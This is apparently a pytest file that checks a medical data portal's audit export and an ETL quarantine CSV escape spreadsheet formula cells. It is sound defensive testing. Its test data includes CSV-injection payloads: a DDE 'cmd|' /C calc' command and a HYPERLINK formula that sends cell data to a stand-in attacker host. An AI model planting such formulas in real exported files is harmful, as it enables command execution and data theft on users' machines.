"""CSV files people open in a spreadsheet never carry a live formula: the audit export and the
ETL's quarantine.csv write a text cell starting with = + - @ tab or CR behind an apostrophe."""
from __future__ import annotations

import csv
import io

import pytest

from fedhaem_kernel import csvcells as etl_cells  # one helper serves both sides
from fedhaem_kernel import csvcells as portal_cells

FORMULAS = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
            '=HYPERLINK("http://attacker.example/?"&A1,"click")']
HARMLESS = ["plain", "-3.5", "+7", "1e-3", "", "a=b", "hb - low"]


@pytest.mark.parametrize("helper", [etl_cells.safe_cell, portal_cells.safe_cell])
def test_helpers_escape_formulas_and_keep_the_rest(helper):
    for cell in FORMULAS:
        assert helper(cell) == "'" + cell
    for cell in HARMLESS:
        assert helper(cell) == cell
    assert helper(-3) == -3 and helper(None) is None


def test_audit_csv_export_escapes_formula_cells(db, personas, api):
    from django.contrib.auth import get_user_model

    from portal.audit.services import record

    evil = get_user_model().objects.create_user("=cmd|' /C calc'!A0")
    record(evil, "study.create", personas["clinician"], {"note": "=1+2"})
    record(personas["administrator"], "+user.change", None, {"n": -4})
    r = api(personas["administrator"]).get("/api/audit/export/")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode())))
    cells = [c for row in rows[1:] for c in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'+user.change" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '{"note": "=1+2"}' in cells  # JSON detail starts with a brace: left as it is


def test_etl_quarantine_csv_escapes_formula_cells(tmp_path):
    from etl.pipeline import run_etl
    from tests.etl.synth import canonical_cohort

    df = canonical_cohort(n=12, seed=8).astype({"hb": object, "patient_id": object})
    df.loc[5, "patient_id"] = '=HYPERLINK("http://attacker.example","x")'
    df.loc[5, "hb"] = "abc"
    df.loc[6, "patient_id"] = "@SUM(1+1)"
    df.loc[6, "hb"] = "-1+1"
    df.to_csv(tmp_path / "h.csv", index=False)
    res = run_etl("mds", [tmp_path / "h.csv"], tmp_path / "out")
    with open(res.out_dir / "quarantine.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 2
    ids = {r["patient_id"] for r in rows}
    assert ids == {'\'=HYPERLINK("http://attacker.example","x")', "'@SUM(1+1)"}
    for r in rows:
        assert not [c for c in r.values() if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
